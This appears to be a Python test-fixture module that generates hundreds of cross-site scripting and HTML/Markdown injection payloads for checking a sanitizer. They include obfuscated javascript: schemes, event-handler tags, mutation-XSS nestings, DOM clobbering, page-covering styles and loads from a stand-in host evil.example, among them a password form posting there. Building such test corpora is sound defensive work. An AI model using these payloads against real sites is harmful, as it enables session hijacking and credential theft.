"""Texts that try to become code, cover the page or ask another host; `alert` is the mark that they did."""

from html import escape
from itertools import product

IMAGE = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    " javascript:alert(1)", "javascript\t:alert(1)", "javascript://%0aalert(1)", "javascript:/*--></title>*/alert(1)",
    "javascript:alert`1`", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'/>", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/", "\u200bjavascript:alert(1)", "\u00a0javascript:alert(1)",
    "javascript\u200b:alert(1)", "livescript:alert(1)", "mocha:alert(1)", "blob:null/x", "filesystem:http://x/y",
]  # fmt: skip
ENTITIES = [
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#106avascript:alert(1)", "&#0000106avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#x6aavascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert&lpar;1&rpar;", "&#1;javascript:alert(1)", "&#x20;javascript:alert(1)", "&#8203;javascript:alert(1)",
    "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)", "&amp;#106;avascript:alert(1)",
    "j&#97v&#97script&#x3A;alert(1)", "javascript:&apos;&apos;alert(1)", "javas&shy;cript:alert(1)", "&zwnj;javascript:alert(1)",
]  # fmt: skip
LINK_FORMS = [
    "[x]({})", "[x](<{}>)", '[x]({} "t")', "![x]({})", "[x][r]\n\n[r]: {}", "[x][r]\n\n[r]: <{}>", "<{}>", "{}",
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<img src="{}">', '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>', '<a xlink:href="{}">x</a>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>', '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">', '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<video poster="{}" src="{}"></video>', '<area href="{}">', '<button formaction="{}">x',
]  # fmt: skip
OUTER = [
    "math",
    "svg",
    "math><mtext",
    "svg><desc",
    "svg><foreignObject",
    "math><annotation-xml encoding=text/html",
]
RAW = [
    "style", "title", "noscript", "textarea", "template", "xmp", "iframe", "noembed", "noframes", "plaintext", "script", "select",
    "mglyph><style", "malignmark><style", "table><style", "form><style", "p><style",
]  # fmt: skip
ENDS = [
    "</{raw}>" + IMAGE,
    "<a title='</{raw}>" + IMAGE + "'>",
    "<!--</{raw}>" + IMAGE + "-->",
    "<![CDATA[</{raw}>" + IMAGE + "]]>",
]
EVENTS = (
    "onload onerror onclick onmouseover onfocus onblur ontoggle onstart onbegin onend onanimationstart onanimationend ontransitionend"
    " onpointerenter onwheel onscroll onscrollend onbeforetoggle oncontentvisibilityautostatechange onpageshow onhashchange"
).split()
CARRIERS = (
    "img src=x", "svg", "body", "details open", "input autofocus", "select autofocus", "textarea autofocus", "video src=x", "audio src=x",
    "marquee", "div style='animation:x 1s'", "p", "a href=#", "table", "keygen autofocus", "object data=x", "iframe", "xss contenteditable",
    "button popovertarget=x", "li", "code", "blockquote", "h2", "td",
)  # fmt: skip
CLOBBERING = [
    *(f"<a id={name} href='cid:alert(1)'>x</a>" for name in ("config", "location", "csrf-token", "body", "htmx", "cookie", "currentScript")),
    *(f"<form name={name}><input name=action><input id=attributes></form>" for name in ("body", "head", "forms", "documentElement")),
    *(f"<img name={name} src=x>" for name in ("getElementById", "querySelector", "createElement", "domain", "referrer")),
    "<a id=x><a id=x name=y href=javascript:alert(1)>", "<iframe name=self srcdoc='<a id=top>'></iframe>", "<object id=defaultView></object>",
    "<h2 id=main>x</h2>", "<p id='modal' name='content'>", "# Title {#config}", "[x](#config){#config onclick=alert(1)}",
]  # fmt: skip
LAYOUT = [
    "<div style='position:fixed;inset:0;background:red'>x</div>", "<p style='font-size:900px'>x</p>", "<p class='modal overlay'>x</p>",
    "<a class='button button--primary' href=/x>Sign in</a>", "<img src=/media/a.webp style='width:100vw;height:100vh;position:fixed'>",
    "<img src=/media/a.webp width=9999 height=9999>", "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<table width=9999 height=9999 bgcolor=red background=//evil.example/x><tr><td>x</table>", "<font size=99 color=red>x</font>",
    "<marquee>x</marquee>", "<dialog open>x</dialog>", "<div popover id=x>x</div>", "<p hidden>x</p>", "<p dir=rtl lang=x>x</p>",
    "<p style=\"background:url('//evil.example/x')\">", "<body background=//evil.example/x>", "<p slot=x part=y is=z>x</p>",
    "<div hx-get=/x hx-trigger=load data-hx-post=/y x-data='{}' v-html=x ng-app>{{constructor.constructor('alert(1)')()}}</div>",
    "Z" + "\u0321\u0349\u0353" * 60 + "a", "a" * 10_000, "![" + "a" * 5000 + "](/media/a.webp)", "\u202e" * 50 + "moc.live",
]  # fmt: skip
REMOTE = [
    "![x](https://evil.example/a.png)", "![x](//evil.example/a.png)", "![x](/media/../../evil)", "<img src=//evil.example/x>",
    "<img srcset='//evil.example/x 1x'>", "<picture><source srcset=//evil.example/x><img src=x></picture>", "<video src=//evil.example/x>",
    "<audio autoplay src=//evil.example/x>", "<track src=//evil.example/x>", "<iframe src=//evil.example/x>", "<embed src=//evil.example/x>",
    "<object data=//evil.example/x>", "<link rel=prefetch href=//evil.example/x>", "<link rel=dns-prefetch href=//evil.example>",
    "<script src=//evil.example/x></script>", "<input type=image src=//evil.example/x>", "<svg><image href=//evil.example/x /></svg>",
    "<svg><use href=//evil.example/x#y /></svg>", "<style>@import '//evil.example/x'</style>", "<a href=/x ping=//evil.example/x>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<img src=x lowsrc=//evil.example/x>",
    "<bgsound src=//evil.example/x>", "<form action=//evil.example><input name=password></form>", "<isindex action=//evil.example>",
    "<math><mi xlink:href=//evil.example>x</mi></math>", "<portal src=//evil.example/x>", "<q cite=//evil.example/x>x</q>",
]  # fmt: skip
DIAGRAMS = [
    '```mermaid\ngraph TD\nclick A "javascript:alert(1)"\n```', '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A[<img src=x onerror=alert(1)>]\n```',
    "```mermaid\nsequenceDiagram\nA->>B: <script>alert(1)</script>\n```", "$\\href{javascript:alert(1)}{x}$", "$$\\unicode{<img src=x onerror=alert(1)>}$$",
    "\\(\\url{javascript:alert(1)}\\)", "$\\includegraphics{//evil.example/x}$", "```math\n\\href{javascript:alert(1)}{x}\n```",
    "```html\n<script>alert(1)</script>\n```", '```"><img src=x onerror=alert(1)>\nx\n```', "~~~ x' onclick='alert(1)\nx\n~~~",
]  # fmt: skip
MARKDOWN = [
    '![x" onerror="alert(1)](/media/a.webp)', "![x](/media/a.webp\" onerror=\"alert(1))", "![x](/media/a.webp 'x\" onerror=\"alert(1)')",
    '[x](https://a.example "\\" onclick=alert(1) x=\\"")', "[x](https://a.example 'x\" onmouseover=alert(1) y=\"')", "[a](<b\" onclick=alert(1)>)",
    f"[{IMAGE}](https://a.example)", f"[x](https://a.example/{IMAGE})", f"# {IMAGE}", f"- {IMAGE}\n- {SCRIPT}", f"> {IMAGE}", f"|{IMAGE}|\n|-|\n|{SCRIPT}|",
    f"`{IMAGE}`", f"**{IMAGE}**", f"~~{SCRIPT}~~", f"    {SCRIPT}", f"```\n{SCRIPT}\n```", f"<https://a.example/{IMAGE}>", f"https://a.example/{IMAGE}",
    'https://a.example/"onmouseover=alert(1)//', "https://a.example/'onmouseover=alert(1)//", f"@ada{IMAGE}", '@ada"onclick=alert(1)',
    "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<?xml ?><img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
    "\\<img src=x onerror=alert(1)\\>", "&lt;img src=x onerror=alert(1)&gt;", "&#60;img src=x onerror=alert(1)&#62;", "[x]: " + IMAGE,
    "[x](javascript:alert(1)//https://a.example)", "[x](https://a.example/\njavascript:alert(1))", "[![x](javascript:alert(1))](javascript:alert(1))",
    "<a href='https://a.example' onclick=alert(1)>x", "x" * 100 + IMAGE, "<IMG SRC=X ONERROR=alert(1)>", "＜img src=x onerror=alert(1)＞",
    "]]></title><script>alert(1)</script>", "</div></article></main><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "\x3csvg/onload=alert(1)\x3e", "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cimg src=x onerror=alert(1)%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>", "<details ontoggle=alert(1) open>",
    "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"x\" title='</a><img src=x onerror=alert(1)>'>x</a>", "<img alt=\"<x\" title=\"/><img src=x onerror=alert(1)>\">", "<p title=\"`><img src=x onerror=alert(1)>\">",
]  # fmt: skip


def nestings() -> list[str]:
    """Foreign elements around raw-text elements around a tag: 6 x 17 x 4 = 408."""
    return [
        f"<{outer}><{raw}>" + end.format(raw=raw.partition(">")[0])
        for outer, raw, end in product(OUTER, RAW, ENDS)
    ]


def links() -> list[str]:
    return [
        form.replace("{}", address) for form, address in product(LINK_FORMS, SCHEMES + ENTITIES)
    ]


def handlers() -> list[str]:
    return [f"<{carrier} {event}=alert(1)>x" for carrier, event in product(CARRIERS, EVENTS)]


def own() -> list[str]:
    others = CLOBBERING + LAYOUT + REMOTE + DIAGRAMS + MARKDOWN
    twice = [escape(text) for text in MARKDOWN] + [
        f"```html\n{text}\n```\n\n{text}" for text in MARKDOWN
    ]
    return nestings() + links() + handlers() + others + twice
